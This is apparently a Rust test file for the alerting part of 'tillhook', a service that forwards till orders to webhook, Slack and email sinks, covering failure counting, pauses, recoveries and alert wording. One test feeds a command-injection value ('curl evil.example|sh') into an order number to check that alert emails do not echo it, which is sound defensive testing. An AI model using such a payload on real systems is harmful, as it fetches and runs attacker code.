//! §6, alerts: who is told that something needs a person, when, and how often.

use std::time::Duration;

use sqlx::{ConnectOptions as _, Connection as _, sqlite::SqliteConnectOptions};
use tillhook::order::Phase;

use super::{MORTAL, let_die};
use crate::{
    far::http::{Answer, HttpFar},
    harness::App,
};

/// A sink in trouble, and a program that is told of alerts.
fn troubled(far: &HttpFar, keys: &str) -> String {
    format!(
        "alerts = [\"ops\"]\n[sink.ops]\nHTTP\non = [\"test.ping\"]\n[sink.erp]\ntype = \"http\"\nurl = \"{}\"\n{keys}",
        far.url()
    )
}

/// The types of what the program was told.
fn told(app: &App) -> Vec<String> {
    app.far.http.calls().iter().map(|call| call.body["type"].as_str().unwrap_or_default().to_owned()).collect()
}

#[tokio::test]
async fn alerts_reach_the_sinks_named_in_alerts_whatever_their_on() {
    let app = App::start("alerts = [\"ops\"]\n[sink.ops]\nHTTP\non = [\"order.validated\"]\n[sink.team]\nMAIL\n").await;
    app.say(&[("price", "5")]).await;
    app.say(&[("type", "validated"), ("price", "6")]).await;
    app.settle().await;
    assert_eq!(told(&app), ["till.unreadable", "till.unreadable"]);
    for (call, (kind, words)) in app.far.http.calls().iter().zip([(None, "`type`"), (Some("validated"), "`orderID`")]) {
        let data = &call.body["data"];
        assert_eq!(data["type"].as_str(), kind);
        assert!(data["receipt_id"].as_str().is_some_and(|id| id.starts_with("rcp_")), "{data}");
        assert!(data["reason"].as_str().is_some_and(|reason| reason.contains(words)), "{data}");
    }
    assert_eq!(app.far.mail.count(), 0, "nobody else");
    app.finish().await;
}

#[tokio::test]
async fn without_alerts_every_email_and_slack_sink_is_told_but_the_one_concerned() {
    let far = HttpFar::start().await;
    far.always(Answer::status(404));
    let broken = format!("[sink.broken]\ntype = \"slack\"\nurl = \"{}\"\n", far.url());
    let app =
        App::start(&format!("[sink.accountant]\nMAIL\non = [\"cashbox.closed\"]\n[sink.erp]\nHTTP\n{broken}")).await;
    app.announce_without_pdf(Phase::Validated).await;
    app.event("sink.paused", 1).await;
    assert_eq!(app.far.mail.count(), 1);
    assert_eq!(told(&app), ["order.validated"]);
    assert_eq!(app.deliveries("broken").await.len(), 1, "it is not told of itself");
    app.finish_leaving(1).await;
}

#[tokio::test]
async fn a_sink_that_selects_an_alert_gets_it_too() {
    let app = App::start("alerts = []\n[sink.ops]\nHTTP\non = [\"till.*\"]\n").await;
    app.say(&[("price", "5")]).await;
    app.settle().await;
    assert_eq!(told(&app), ["till.unreadable"]);
    app.finish().await;
}

#[tokio::test]
async fn alerts_are_in_plain_words_with_what_to_do() {
    let far = HttpFar::start().await;
    far.always(Answer::status(410));
    let erp = format!("[sink.erp]\ntype = \"http\"\nurl = \"{}\"\n", far.url());
    let app = App::start(&format!("[sink.fr]\nMAIL\nattach = []\non = [\"test.ping\"]\n[sink.en]\nMAIL\nlocale = \"en\"\non = [\"test.ping\"]\n{erp}")).await;
    app.announce_without_pdf(Phase::Validated).await;
    app.event("sink.paused", 1).await;
    let mut subjects: Vec<_> = app.far.mail.mails().into_iter().map(|mail| mail.subject).collect();
    subjects.sort();
    assert_eq!(subjects, ["Deliveries to “erp” are paused – tillhook", "L’envoi vers « erp » est suspendu – tillhook"]);
    for mail in app.far.mail.mails() {
        let text = tillhook::app::demo::mime::text(&mail.source).expect("a text").0;
        assert!(text.contains("tillhook sinks resume erp"), "{text}");
        assert!(text.contains("410"), "{text}");
    }
    app.finish_leaving(1).await;
}

#[tokio::test]
async fn a_sink_is_failing_after_three_failed_attempts_in_a_row() {
    let far = HttpFar::start().await;
    far.always(Answer::status(500));
    let app = App::start(&troubled(&far, "retry = [\"15m\", \"15m\", \"48h\"]\n")).await;
    app.announce_without_pdf(Phase::Validated).await;
    app.settle().await;
    app.advance(Duration::from_mins(18)).await;
    assert_eq!(told(&app).len(), 0, "two are too few, also over a quarter of an hour");
    app.advance(Duration::from_mins(18)).await;
    let data = app.event("sink.failing", 1).await;
    assert_eq!((&data["sink"], &data["since"]), (&"erp".into(), &"2026-11-21T13:00:00Z".into()));
    assert_eq!((&data["waiting"], &data["dead"]), (&1.into(), &0.into()));
    assert!(data["reason"].as_str().is_some_and(|reason| reason.contains("HTTP 500")), "{data}");
    assert_eq!(told(&app), ["sink.failing"]);
    app.finish_leaving(1).await;
}

#[tokio::test]
async fn a_sink_is_failing_after_failed_attempts_over_at_least_ten_minutes() {
    let far = HttpFar::start().await;
    far.always(Answer::status(500));
    let app = App::start(&troubled(&far, "retry = [\"1m\", \"1m\", \"1m\", \"12m\", \"48h\"]\n")).await;
    app.announce_without_pdf(Phase::Validated).await;
    app.settle().await;
    for _ in 0..3 {
        app.advance(Duration::from_mins(2)).await;
    }
    assert_eq!(far.requests().len(), 4);
    assert_eq!(told(&app).len(), 0, "four in six minutes are no outage yet");
    app.advance(Duration::from_mins(15)).await;
    app.event("sink.failing", 1).await;
    assert_eq!(told(&app), ["sink.failing"]);
    app.finish_leaving(1).await;
}

#[tokio::test]
async fn a_success_in_between_begins_the_count_anew() {
    let far = HttpFar::start().await;
    let app = App::start(&troubled(&far, "retry = [\"15m\", \"15m\", \"48h\"]\n")).await;
    for _ in 0..3 {
        far.then([Answer::status(500), Answer::status(500)]);
        app.announce_without_pdf(Phase::Validated).await;
        app.settle().await;
        app.advance(Duration::from_mins(18)).await;
        app.advance(Duration::from_mins(18)).await;
    }
    assert_eq!((far.requests().len(), told(&app).len()), (9, 0));
    app.finish().await;
}

#[tokio::test]
async fn a_sink_is_failing_with_its_first_dead_delivery() {
    let far = HttpFar::start().await;
    let app = App::start(&troubled(&far, MORTAL)).await;
    let_die(&app, &far, &app.till.sell(), Phase::Validated).await;
    let data = app.event("sink.failing", 1).await;
    assert_eq!((&data["waiting"], &data["dead"]), (&0.into(), &1.into()));
    assert_eq!(told(&app), ["sink.failing"]);
    app.finish().await;
}

#[tokio::test]
async fn a_delivery_that_cannot_be_read_back_is_given_up_and_somebody_is_told() {
    let far = HttpFar::start().await;
    let mut app = App::start(&troubled(&far, "")).await;
    far.then([Answer::status(500)]);
    app.announce_without_pdf(Phase::Validated).await;
    app.settle().await;
    app.halt().await;
    damage(&app, "UPDATE delivery SET payload = '{\"body\": \"for Zoé Dur' WHERE sink = 'erp'").await;
    app.boot().await;
    app.advance(Duration::from_secs(12)).await;
    let data = app.event("sink.failing", 1).await;
    assert_eq!((&data["sink"], &data["waiting"], &data["dead"]), (&"erp".into(), &0.into(), &1.into()));
    let reason = data["reason"].as_str().expect("a reason");
    assert!(reason.contains("a stored value cannot be read") && !reason.contains("Zoé"), "{reason}");
    let line = app.deliveries("erp").await.swap_remove(0);
    assert_eq!((line.status.as_str(), line.last_error.as_deref()), ("dead", Some(reason)));
    // The next order is not held up, and its arrival ends the outage.
    app.announce_without_pdf(Phase::Validated).await;
    app.event("sink.recovered", 1).await;
    assert_eq!(told(&app), ["sink.failing", "sink.recovered"]);
    assert_eq!(app.statuses("erp").await, ["dead", "delivered"]);
    assert_eq!(far.requests().len(), 2, "what cannot be read is not sent");
    app.finish().await;
}

/// Does to the database what a bad disk or a stray hand may do.
async fn damage(app: &App, how: &'static str) {
    let options = SqliteConnectOptions::new().filename(app.data().join("tillhook.db"));
    let mut file = options.connect().await.expect("the database");
    assert_eq!(sqlx::query(how).execute(&mut file).await.expect("a change").rows_affected(), 1);
    file.close().await.expect("closed");
}

#[tokio::test]
async fn an_outage_is_said_once_and_so_is_its_end_and_the_next_one_is_said_again() {
    let far = HttpFar::start().await;
    let app = App::start(&troubled(&far, "retry = [\"5m\", \"5m\", \"5m\", \"5m\", \"5m\", \"48h\"]\n")).await;
    for outage in 1..=2 {
        far.always(Answer::status(500));
        app.announce_without_pdf(Phase::Validated).await;
        app.announce_without_pdf(Phase::Validated).await;
        app.settle().await;
        for _ in 0..4 {
            app.advance(Duration::from_mins(6)).await;
        }
        app.event("sink.failing", outage).await;
        far.always(Answer::status(200));
        app.advance(Duration::from_mins(6)).await;
        app.event("sink.recovered", outage).await;
        app.announce_without_pdf(Phase::Validated).await;
        app.settle().await;
    }
    assert_eq!(told(&app), ["sink.failing", "sink.recovered", "sink.failing", "sink.recovered"]);
    app.finish().await;
}

#[tokio::test]
async fn a_sink_that_fails_for_as_long_as_pause_after_is_paused_its_queue_kept_and_somebody_told() {
    let far = HttpFar::start().await;
    far.always(Answer::status(500));
    let app = App::start(&troubled(&far, "retry = [\"15m\", \"15m\", \"1h\", \"48h\"]\npause_after = \"1h\"\n")).await;
    app.announce_without_pdf(Phase::Validated).await;
    app.settle().await;
    app.advance(Duration::from_mins(18)).await;
    app.advance(Duration::from_mins(18)).await;
    app.event("sink.failing", 1).await;
    app.advance(Duration::from_mins(72)).await;
    let data = app.event("sink.paused", 1).await;
    assert_eq!((&data["sink"], &data["waiting"]), (&"erp".into(), &1.into()));
    let paused = app.sink("erp").await.paused.expect("a pause").1;
    assert_eq!(
        Some(paused.as_str()),
        data["reason"].as_str().map(|last| format!("it has failed for 1 h: {last}")).as_deref()
    );
    assert_eq!(app.statuses("erp").await, ["paused"]);
    far.always(Answer::status(200));
    app.resume("erp").await;
    let data = app.event("sink.recovered", 1).await;
    assert_eq!(data["reason"], "", "nothing is wrong any more");
    assert_eq!(told(&app), ["sink.failing", "sink.paused", "sink.recovered"]);
    app.finish().await;
}

#[tokio::test]
async fn a_command_that_is_shown_to_be_copied_holds_no_text_of_the_tills() {
    let app = App::start("[sink.accountant]\ntype = \"email\"\nto = [\"compta@cabinet-martin.example\"]\n").await;
    let number = "42`; curl evil.example|sh #";
    let order = [("type", "validated"), ("orderInternalID", number), ("PDFinvoice", "https://elsewhere.example/f.pdf")];
    assert_eq!(app.say(&order).await, "stored");
    app.event("invoice.missing", 1).await;
    app.settle().await;
    let key = app.column("SELECT key FROM customer_order").await.remove(0);
    let mails = app.far.mail.mails();
    let texts: Vec<String> =
        mails.iter().filter_map(|mail| tillhook::app::demo::mime::text(&mail.source)).map(|(text, _)| text).collect();
    assert!(texts.iter().any(|text| text.contains(&format!("--order {key}"))), "{texts:?}");
    assert!(texts.iter().all(|text| !text.contains("--order 42")), "{texts:?}");
    let (exit, sheet) = app.types(&format!("orders show {key}")).await;
    assert_eq!(exit, Some(0), "what is shown can be typed: {sheet}");
    app.finish().await;
}
